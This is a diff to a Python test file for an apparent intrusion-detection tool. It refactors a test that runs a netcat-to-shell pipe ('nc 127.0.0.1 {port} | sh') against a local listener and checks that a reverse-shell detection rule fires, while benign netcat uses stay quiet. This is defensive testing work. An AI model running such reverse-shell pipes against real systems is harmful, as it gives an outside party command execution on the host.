@@ -24,6 +24,7 @@ import socket
 import subprocess
 import tarfile
 import tempfile
+import threading
 import time
 import uuid
 
@@ -427,33 +428,31 @@ def test_reverse_shell_netclient_pipe(vd, tmp):
     marker = os.path.join(tmp, "owned")
     srv, port = listener()
 
-    def serve(payload):
-        c, _ = srv.accept()
-        c.sendall(payload)
-        time.sleep(0.3)
-        c.close()
+    def served(payload, script):
+        """Runs script in a new session while the listener sends payload to
+        the one connection it accepts; returns the session's pid."""
+        def serve():
+            c, _ = srv.accept()
+            c.sendall(payload)
+            time.sleep(0.3)
+            c.close()
+        t = threading.Thread(target=serve)
+        t.start()
+        pid, _, _ = run(["bash", "-c", script])
+        t.join()
+        return pid
 
-    import threading
-    t = threading.Thread(target=serve, args=(f"touch {marker}\n".encode(),))
-    t.start()
     # through timeout, which gives nc a process group of its own: the two
     # are paired by the pipe between them
-    pid, _, _ = run(["bash", "-c", f"timeout 10 nc 127.0.0.1 {port} | sh"])
-    t.join()
+    pid = served(f"touch {marker}\n".encode(), f"timeout 10 nc 127.0.0.1 {port} | sh")
     assert os.path.exists(marker)
     a = expect(vd, "execution/reverse_shell_netclient_pipe", sid=pid)
     names = sorted(get(e, "process.name") for e in a["events"])
     assert "nc" in names and "sh" in names, names
 
     # benign: what nc receives goes to cat; a command piped into nc
-    t = threading.Thread(target=serve, args=(b"hello\n",))
-    t.start()
-    b1, _, _ = run(["bash", "-c", f"nc 127.0.0.1 {port} | cat >/dev/null"])
-    t.join()
-    t = threading.Thread(target=serve, args=(b"",))
-    t.start()
-    b2, _, _ = run(["bash", "-c", f"echo ping | nc -N 127.0.0.1 {port} >/dev/null"])
-    t.join()
+    b1 = served(b"hello\n", f"nc 127.0.0.1 {port} | cat >/dev/null")
+    b2 = served(b"", f"echo ping | nc -N 127.0.0.1 {port} >/dev/null")
     srv.close()
     assert_quiet(vd, sids=[b1, b2])
 
